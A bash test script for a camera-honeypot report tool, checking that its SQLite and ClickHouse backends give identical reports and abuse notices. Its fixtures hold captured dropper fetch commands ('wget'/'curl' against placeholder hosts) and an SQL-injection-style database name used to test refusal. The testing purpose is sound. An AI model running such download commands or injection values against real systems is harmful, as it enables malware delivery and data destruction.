#!/usr/bin/env bash
# t_report_clickhouse: the report's two backends on the same data. The two
# report fixtures are shipped to a ClickHouse server of the test's own by
# the decoy's shipper (tests/shipdb); then `camdecoy-report --clickhouse`
# and `camdecoy-report --db a --db b` must print the same bytes for every
# subcommand (views --merged too) in every format and under filters and
# zones (Asia/Kolkata and America/St_Johns have half-hour offsets: a day is
# the day of the hour a host-hour starts), and equal the golden files; a
# quote in --sensor is a literal. Odd Referers and request lines (UTF-8 and
# bytes that are not, cut at 200 characters, NUL bytes) and the XARF
# notices too.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/clickhouse.sh"
trap 'ch_cleanup; cleanup' EXIT
HERE="$(cd "$(dirname "$0")/../analytics" && pwd)"
TOOLS="$(dirname "$BIN")/tests"
command -v clickhouse-server >/dev/null || { bad "clickhouse-server is not installed"; finish; exit 1; }
"$TOOLS/mkfixture" "$TMP/a.db" "$HERE/fixture_a.sql" tokyo-1 && "$TOOLS/mkfixture" "$TMP/b.db" "$HERE/fixture_b.sql" osaka-1 ||
	{ bad "fixtures"; finish; exit 1; }
ch_start rep || { bad "clickhouse starts"; finish; exit 1; }
check "fixture a ships" "$TOOLS/shipdb" "$TMP/a.db" "$CH_URL" golden
check "fixture b ships" "$TOOLS/shipdb" "$TMP/b.db" "$CH_URL" golden
check "shipping it again doubles nothing" "$TOOLS/shipdb" "$TMP/a.db" "$CH_URL" golden

CH=(--clickhouse "$CH_URL" --clickhouse-database golden)
# The exploits fixture (attempts, two leaks and the logins that used them, a NUL and an escape
# in payloads, UTF-8 cut at byte 160) through the shipper: logins.matched_seq ships too.
"$TOOLS/mkfixture" "$TMP/x.db" "$HERE/fixture_x.sql" kyoto-1 && "$TOOLS/shipdb" "$TMP/x.db" "$CH_URL" xfix ||
	bad "the exploits fixture ships"
check "logins.matched_seq shipped (3 uses of a leak)" \
	[ "$(ch_query "$CH_URL" "SELECT count() FROM xfix.logins FINAL WHERE isNotNull(matched_seq)")" = 3 ]
n=0
while IFS= read -r args; do
	for f in text csv json; do
		# shellcheck disable=SC2086
		for sub in exploits abuse; do
			# shellcheck disable=SC2086
			"$REPORT" --db "$TMP/x.db" --format "$f" $args $sub >"$TMP/lite" 2>&1
			# shellcheck disable=SC2086
			"$REPORT" --clickhouse "$CH_URL" --clickhouse-database xfix --format "$f" $args $sub >"$TMP/house" 2>&1
			check "$sub $f $args: both backends print the same" cmp -s "$TMP/lite" "$TMP/house"
			cmp -s "$TMP/lite" "$TMP/house" || diff "$TMP/lite" "$TMP/house" | head >&2
			n=$((n + 1))
		done
	done
done <<'ARGS'
--tz UTC
--tz Asia/Kolkata
--sensor kyoto-1 --since 2026-02-09T09:30:00Z
--persona hikvision --until 2026-02-10T00:00:00Z
--asn 64501
ARGS
echo "$n exploits and abuse outputs compared"
"$REPORT" --clickhouse "$CH_URL" --clickhouse-database xfix --format csv exploits >"$TMP/x.text"
check "over ClickHouse a leak's use is named" grep -q 'leaked by CVE-2017-7921 to 203.0.113.11 at 2026-02-09 10:00:00, used from 192.0.2.41 at +86400.000 s on rtsp' "$TMP/x.text"
# Each figure recomputed from the raw rows in ClickHouse: per rule attempts, hosts, answered,
# leaks; per rule the leaks used and the shortest and longest reuse (ms); then the report's.
ch_query "$CH_URL" "SELECT rule, count(), uniqExact(src_ip), sum(answered), count(trap_seq)
	FROM xfix.exploits FINAL GROUP BY rule ORDER BY rule FORMAT TSV" >"$TMP/x.raw"
ch_query "$CH_URL" "SELECT e.rule, count(), min(l.ts - e.ts), max(l.ts - e.ts) FROM xfix.exploits AS e FINAL
	ALL INNER JOIN (SELECT sensor, db_id, matched_seq AS trap_seq, ts FROM xfix.logins FINAL
	WHERE match_kind IN ('exact', 'password-only')) AS l USING (sensor, db_id, trap_seq)
	GROUP BY e.rule ORDER BY e.rule FORMAT TSV" >>"$TMP/x.raw"
"$REPORT" --clickhouse "$CH_URL" --clickhouse-database xfix --format json exploits >"$TMP/x.json"
python3 - "$TMP/x.json" >"$TMP/x.report" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
for r in sorted(d["exploit_rules"], key=lambda r: r["rule"]):
    print("\t".join(str(r[k]) for k in ("rule", "attempts", "hosts", "answered", "leaked")))
uses = {}
for u in d["leak_uses"]:
    ms = round(float(u["reuse_s"]) * 1000)
    n, lo, hi = uses.get(u["rule"], (0, ms, ms))
    uses[u["rule"]] = (n + 1, min(lo, ms), max(hi, ms))
for rule in sorted(uses):
    print("\t".join(str(x) for x in (rule,) + uses[rule]))
PY
check "the exploits figures equal the raw rows' ($(wc -l <"$TMP/x.raw") lines)" cmp -s "$TMP/x.raw" "$TMP/x.report"
cmp -s "$TMP/x.raw" "$TMP/x.report" || diff "$TMP/x.raw" "$TMP/x.report" >&2

# every subcommand; "views --merged" has the golden file viewsmerged
SUBS="summary credentials referers funnel countries abuse views views_--merged"
for s in $SUBS; do
	sub="${s//_/ }" name="${s//_--/}"
	for f in text csv json; do
		# shellcheck disable=SC2086
		"$REPORT" "${CH[@]}" --tz UTC --format "$f" $sub >"$TMP/ch.$name.$f" 2>"$TMP/err"
		check "$sub over ClickHouse equals the golden $f" cmp -s "$TMP/ch.$name.$f" "$HERE/golden/$name.$f"
		cmp -s "$TMP/ch.$name.$f" "$HERE/golden/$name.$f" || diff "$HERE/golden/$name.$f" "$TMP/ch.$name.$f" | head >&2
	done
done
# Four filter sets in make test (a half-hour zone, a sensor with a window,
# a quote); all ten in make test-long (REPORT_CH_ALL=1).
FILTERS="--tz UTC
--tz Asia/Kolkata
--sensor tokyo-1 --since 2026-02-09T09:00:00Z
--sensor o'brien\\x"
[ "${REPORT_CH_ALL:-0}" = 1 ] && FILTERS="$(cat <<'ARGS'
--tz UTC
--tz Asia/Tokyo
--tz Asia/Kolkata
--tz America/St_Johns
--sensor osaka-1
--persona axis
--since 2026-02-09 --until 2026-02-09T12:00:00Z
--since 2026-02-01 --until 2026-02-10 --tz Asia/Kolkata
--sensor tokyo-1 --since 2026-02-09T09:00:00Z
--sensor o'brien\x
ARGS
)"
n=0
while IFS= read -r args; do
	for s in $SUBS exploits; do
		sub="${s//_/ }"
		for f in text csv json; do
			# shellcheck disable=SC2086
			"$REPORT" --db "$TMP/a.db" --db "$TMP/b.db" --format "$f" $args $sub >"$TMP/lite" 2>&1
			# shellcheck disable=SC2086
			"$REPORT" "${CH[@]}" --format "$f" $args $sub >"$TMP/house" 2>&1
			check "$sub $f $args: both backends print the same" cmp -s "$TMP/lite" "$TMP/house"
			cmp -s "$TMP/lite" "$TMP/house" || diff "$TMP/lite" "$TMP/house" | head >&2
			n=$((n + 1))
		done
	done
done <<<"$FILTERS"
echo "$n outputs compared ($SUBS)"
# Referer origins at their edges: case, no path, UTF-8 before the host's end,
# other schemes, a newline.
cat >"$TMP/odd.sql" <<'SQL'
INSERT INTO views (id, sensor, kind, src_ip, referer, referer_class, client_class, persona, started_at, frames, bytes, probe) VALUES
 (1, 'odd-1', 'stream', '192.0.2.1', 'HTTP://Example.COM/a/b', 'other', 'browser', 'axis', 1770627600000, 5, 1, 0),
 (2, 'odd-1', 'stream', '192.0.2.2', 'https://x.org', 'other', 'browser', 'axis', 1770627600000, 5, 1, 0),
 (3, 'odd-1', 'stream', '192.0.2.3', 'http://ü.example/p', 'other', 'browser', 'axis', 1770627600000, 5, 1, 0),
 (4, 'odd-1', 'stream', '192.0.2.4', 'http://éé/p', 'other', 'browser', 'axis', 1770627600000, 5, 1, 0),
 (5, 'odd-1', 'stream', '192.0.2.5', 'ftp://a/b', 'other', 'browser', 'axis', 1770627600000, 5, 1, 0),
 (6, 'odd-1', 'stream', '192.0.2.6', 'http:/x/y', 'other', 'browser', 'axis', 1770627600000, 5, 1, 0),
 (7, 'odd-1', 'stream', '192.0.2.7', 'https://a
b/c', 'other', 'browser', 'axis', 1770627600000, 5, 1, 0),
 (8, 'odd-1', 'stream', '192.0.2.8', 'https://www.insecam.org/x', 'insecam', 'browser', 'axis', 1770627600000, 5, 1, 0),
 (9, 'odd-1', 'stream', '192.0.2.10', CAST(X'687474703A2F2F6E756C002E6578616D706C652F70' AS TEXT), 'other', 'browser', 'axis', 1770627600000, 5, 1, 0);
SQL
# An address's first request lines, cut at 200 characters as SQLite's substr
# counts them: 2-byte UTF-8, then bytes that are not UTF-8 (C3 before an
# ASCII byte is one character there, not two bytes of one), a NULL line left
# out, two requests in one millisecond, and a sixth line past the five.
long="$(python3 -c 'print("/" + "é" * 250)')"
bad_hex="$(python3 -c 'print("2F" + "C341" * 150 + "80" * 10)')"
cat >>"$TMP/odd.sql" <<SQL
INSERT INTO requests (id, ts, sensor, src_ip, method, path, referer_class, persona, client_class) VALUES
 (1, 1770627600000, 'odd-1', '192.0.2.9', 'GET', '$long', 'none', 'axis', 'scanner'),
 (2, 1770627600000, 'odd-1', '192.0.2.9', 'GET', CAST(X'$bad_hex' AS TEXT), 'none', 'axis', 'scanner'),
 (3, 1770627601000, 'odd-1', '192.0.2.9', NULL, '/x', 'none', 'axis', 'scanner'),
 (4, 1770627602000, 'odd-1', '192.0.2.9', 'POST', '/a|b', 'none', 'axis', 'scanner'),
 (5, 1770627603000, 'odd-1', '192.0.2.9', 'GET', '/5', 'none', 'axis', 'scanner'),
 (6, 1770627604000, 'odd-1', '192.0.2.9', 'GET', '/6', 'none', 'axis', 'scanner'),
 (7, 1770627605000, 'odd-1', '192.0.2.10', 'GET', CAST(X'2F61002F62' AS TEXT), 'none', 'axis', 'scanner');
INSERT INTO logins (id, ts, sensor, channel, src_ip, persona, match_kind, username, asn, as_org) VALUES
 (1, 1770627700000, 'odd-1', 'form', '192.0.2.9', 'axis', 'none', 'root', 64502, 'Odd "Net" <b>'),
 (2, 1770627700000, 'odd-1', 'form', '192.0.2.9', 'axis', 'none', 'admin', 64502, 'Odd "Net" <b>'),
 (3, 1770627700000, 'odd-1', 'form', '192.0.2.10', 'axis', 'none', 'root', 64502, 'Odd "Net" <b>');
-- indicators with an escape, quotes, a backslash, a newline between fetch commands and a URL
-- past the notice's cut (200 characters), in two attempts of one rule: the older is the sample
INSERT INTO exploits (id, ts, sensor, persona, src_ip, rule, cve, family, answered, payload_len,
  payload_truncated, ioc_urls, ioc_fetch, asn, as_org) VALUES
 (1, 1770627800000, 'odd-1', 'axis', '192.0.2.9', 'generic-dropper', NULL, 'dropper', 0, 9, 0,
  'http://e.example$long', 'wget http://e.example/"a"\b' || char(27) || '[2J
curl -o x http://f.example/', 64502, 'Odd "Net" <b>'),
 (2, 1770627900000, 'odd-1', 'axis', '192.0.2.9', 'generic-dropper', NULL, 'dropper', 0, 9, 0,
  'http://later.example/', NULL, 64502, 'Odd "Net" <b>'),
 (3, 1770627950000, 'odd-1', 'axis', '192.0.2.9', 'gpon-cve-2018-10561', 'CVE-2018-10561', 'cmd-injection', 0, 0, 0,
  NULL, NULL, 64502, 'Odd "Net" <b>');
SQL
# twelve countries: the country chart's "others" row
python3 - >>"$TMP/odd.sql" <<'PY'
rows = []
for i, cc in enumerate("AR BR CA DE ES FR GB IN IT JP KR NL".split()):
    for j in range(i + 1):  # 1 .. 12 hosts per country
        rows.append(f"({100 + len(rows)}, {1770627600000 + 1000 * len(rows)}, 'odd-1', '198.18.{i}.{j}', '{cc}',"
                    " 'GET', '/', 'none', 'axis', 'browser')")
print("INSERT INTO requests (id, ts, sensor, src_ip, country, method, path, referer_class, persona,"
      " client_class) VALUES\n" + ",\n".join(rows) + ";")
PY
"$TOOLS/mkfixture" "$TMP/odd.db" "$TMP/odd.sql" odd-1 && "$TOOLS/shipdb" "$TMP/odd.db" "$CH_URL" odd ||
	bad "the odd referers ship"
for sub in referers abuse views; do
	for f in csv text json; do
		"$REPORT" --db "$TMP/odd.db" --format $f $sub >"$TMP/lite" 2>&1
		"$REPORT" --clickhouse "$CH_URL" --clickhouse-database odd --format $f $sub >"$TMP/house" 2>&1
		check "odd $sub $f: both backends cut the same bytes" cmp -s "$TMP/lite" "$TMP/house"
		cmp -s "$TMP/lite" "$TMP/house" || diff "$TMP/lite" "$TMP/house" >&2
		cp "$TMP/lite" "$TMP/odd-$sub.$f"
	done
done
check "a NUL in a request line is not where it ends (U+FFFD)" grep -qF 'GET /a'$'\xef\xbf\xbd''/b' "$TMP/odd-abuse.csv"
check "nor in a Referer" grep -qF 'http://nul?.example/p' "$TMP/odd-referers.csv"
check "the odd request lines are there, cut" grep -q '| POST /a|b | GET /5' "$TMP/odd-abuse.csv"
# XARF notices: the same but for each notice's random id
XARF=(--format xarf --reporter-org Example --reporter-contact abuse@example.org --reporter-domain example.org)
xarf_both() { # CH_DATABASE ASN DB...
	local chdb="$1" asn="$2" dbs=()
	shift 2
	for d in "$@"; do dbs+=(--db "$d"); done
	"$REPORT" "${dbs[@]}" --asn "$asn" "${XARF[@]}" abuse | sed 's/"report_id": "[^"]*"//' >"$TMP/lite"
	"$REPORT" --clickhouse "$CH_URL" --clickhouse-database "$chdb" --asn "$asn" "${XARF[@]}" abuse |
		tee "$TMP/house.jsonl" | sed 's/"report_id": "[^"]*"//' >"$TMP/house"
	check "XARF notices of AS$asn: both backends write the same" cmp -s "$TMP/lite" "$TMP/house"
	check "XARF notices of AS$asn are there" test -s "$TMP/house"
}
xarf_both odd 64502 "$TMP/odd.db"
cp "$TMP/house.jsonl" "$TMP/odd-xarf.jsonl"
xarf_both golden 64501 "$TMP/a.db" "$TMP/b.db"
xarf_both xfix 64500 "$TMP/x.db"
cp "$TMP/house.jsonl" "$TMP/x-xarf.jsonl"
xarf_both xfix 64501 "$TMP/x.db"
cat "$TMP/house.jsonl" "$TMP/odd-xarf.jsonl" >>"$TMP/x-xarf.jsonl"
# The exploitation notices' figures recomputed from the raw exploits rows in ClickHouse: per
# address and rule the attempts, first and last seen (ms); per address the total; then the
# notices' (their evidence lines and total_requests).
RAWX="SELECT src_ip, rule, ts FROM xfix.exploits FINAL WHERE asn IN (64500, 64501)
	UNION ALL SELECT src_ip, rule, ts FROM odd.exploits FINAL WHERE asn = 64502"
ch_query "$CH_URL" "SELECT src_ip, rule, count(), min(ts), max(ts) FROM ($RAWX)
	GROUP BY src_ip, rule ORDER BY src_ip, rule FORMAT TSV" >"$TMP/xn.raw"
ch_query "$CH_URL" "SELECT src_ip, count() FROM ($RAWX) GROUP BY src_ip ORDER BY src_ip FORMAT TSV" >>"$TMP/xn.raw"
python3 - "$TMP/x-xarf.jsonl" >"$TMP/xn.notices" 2>&1 <<'PY'
import base64, calendar, json, re, sys, time
per, tot = [], []
ms = lambda t: str(calendar.timegm(time.strptime(t, "%Y-%m-%dT%H:%M:%SZ")) * 1000)
for l in open(sys.argv[1]):
    r = json.loads(l)
    if r["type"] != "vulnerability_scan":
        continue
    body = base64.b64decode(r["evidence"][0]["payload"]).decode()
    n = 0
    for e in body.splitlines():
        m = re.match(r"(\S+) \.\. (\S+) (\d+) attempt\(s\) of rule ([^,;]+)", e)
        per.append((r["source_identifier"], m[4], m[3], ms(m[1]), ms(m[2])))
        n += int(m[3])
    tot.append((r["source_identifier"], str(r["total_requests"] if n == r["total_requests"] else -1)))
for row in sorted(per) + sorted(tot):
    print("\t".join(row))
PY
check "the exploitation notices' figures equal the raw rows' ($(wc -l <"$TMP/xn.raw") lines)" cmp -s "$TMP/xn.raw" "$TMP/xn.notices"
cmp -s "$TMP/xn.raw" "$TMP/xn.notices" || diff "$TMP/xn.raw" "$TMP/xn.notices" >&2
# the oldest attempt's indicators, escaped (no raw ESC, the quotes and backslash JSON-safe in
# the evidence's text), fetch commands joined, the URL cut at 200 characters
python3 - "$TMP/odd-xarf.jsonl" >"$TMP/xn.odd" 2>&1 <<'PY'
import base64, json, sys
raw = open(sys.argv[1], "rb").read()
ok = b"\x1b" not in raw
for l in raw.decode().splitlines():
    r = json.loads(l)
    if r["type"] == "vulnerability_scan" and r["source_identifier"] == "192.0.2.9":
        b = base64.b64decode(r["evidence"][0]["payload"]).decode()
        print(b)
        ok = ok and "\x1b" not in b and "later.example" not in b
        ok = ok and 'fetch commands: wget http://e.example/"a"\\b?[2J, curl -o x http://f.example/' in b
        url = b.split("URLs: ")[1].split(";")[0]
        ok = ok and len(url) == 200 and r["vulnerabilities_probed"] == ["generic-dropper", "CVE-2018-10561"]
        ok = ok and r["total_requests"] == 3
sys.exit(0 if ok else 1)
PY
check "an exploitation notice carries its oldest attempt's indicators, escaped, joined and cut" [ $? = 0 ]
# report --out: every file the same (charts and their data, every view and
# session, the tables), the page but for the line that says where from
report_both() { # NAME CH_DATABASE "ARGS" DB...
	local name="$1" chdb="$2" args="$3" dbs=()
	shift 3
	for d in "$@"; do dbs+=(--db "$d"); done
	# shellcheck disable=SC2086
	"$REPORT" "${dbs[@]}" $args report --out "$TMP/lite-$name" >/dev/null 2>"$TMP/err"
	# shellcheck disable=SC2086
	"$REPORT" --clickhouse "$CH_URL" --clickhouse-database "$chdb" $args report --out "$TMP/house-$name" >/dev/null 2>>"$TMP/err"
	check "report --out $name ($args): written both ways" test -s "$TMP/house-$name/sessions.csv" -a -s "$TMP/lite-$name/sessions.csv"
	check "report --out $name ($args): the same files (PDFs but for their date)" \
		same_report_dirs "$TMP/lite-$name" "$TMP/house-$name"
	check "report --out $name ($args): the same page but for its scope" \
		bash -c "diff '$TMP/lite-$name/index.html' '$TMP/house-$name/index.html' | grep -c '^[<>]' | grep -qx 2"
	check "report --out $name: all $(ls "$TMP/house-$name" | wc -l) files are there" test "$(ls "$TMP/house-$name" | wc -l)" -ge 47
}
report_both all golden "--tz UTC" "$TMP/a.db" "$TMP/b.db"
report_both hourly golden "--since 2026-02-09 --tz Asia/Kolkata" "$TMP/a.db" "$TMP/b.db"
report_both sensor golden "--sensor osaka-1 --tz America/St_Johns" "$TMP/a.db" "$TMP/b.db"
report_both odd odd "--tz UTC" "$TMP/odd.db"
report_both exploits xfix "--tz Asia/Tokyo" "$TMP/x.db"
check "the country chart has its others row" grep -q '^"others",' "$TMP/house-odd/country_shares.csv"
"$REPORT" "${CH[@]}" report >/dev/null 2>"$TMP/err"
rc=$?
check "report without --out over ClickHouse is a usage error ($rc)" bash -c "[ $rc -eq 2 ] && grep -q 'needs --out' '$TMP/err'"
"$REPORT" "${CH[@]}" nonsense >/dev/null 2>"$TMP/err"
rc=$?
check "an unknown subcommand over ClickHouse exits 2 ($rc)" bash -c "[ $rc -eq 2 ]"
"$REPORT" "${CH[@]}" --db "$TMP/a.db" summary >/dev/null 2>"$TMP/err"
rc=$?
check "--db with --clickhouse exits 2 ($rc)" [ "$rc" -eq 2 ]
check "--db with --clickhouse is a usage error naming both" grep -q 'one or the other' "$TMP/err"
"$REPORT" --clickhouse "$CH_URL" --clickhouse-database "x'; DROP" summary >/dev/null 2>"$TMP/err"
check "a bad --clickhouse-database is refused before any query" grep -q 'clickhouse-database' "$TMP/err"
finish
